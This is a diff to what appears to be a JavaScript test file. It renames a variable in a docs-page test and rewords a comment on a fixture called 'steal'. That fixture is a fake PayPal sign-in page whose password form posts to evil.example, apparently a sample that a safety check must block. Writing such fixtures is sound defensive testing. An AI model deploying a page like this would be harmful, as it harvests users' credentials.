@@ -104,8 +104,8 @@ describe('the list', () => {
         undefined,
       ])
     }
-    const said = await ctx.visit('GET', '/docs', { headers: { accept: 'text/html' } })
-    for (const { body } of [said, await ctx.call('GET', '/')]) {
+    const docs = await ctx.visit('GET', '/docs', { headers: { accept: 'text/html' } })
+    for (const { body } of [docs, await ctx.call('GET', '/')]) {
       const text = typeof body === 'string' ? body : JSON.stringify(body)
       expect(text).toContain('except those that return a stream or a file')
     }
@@ -259,7 +259,7 @@ describe('a call', () => {
   })
 })
 
-/** A page that the safety check refuses. */
+/** A page that the safety check blocks. */
 const steal =
   '<!doctype html><title>PayPal</title><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form>'
 
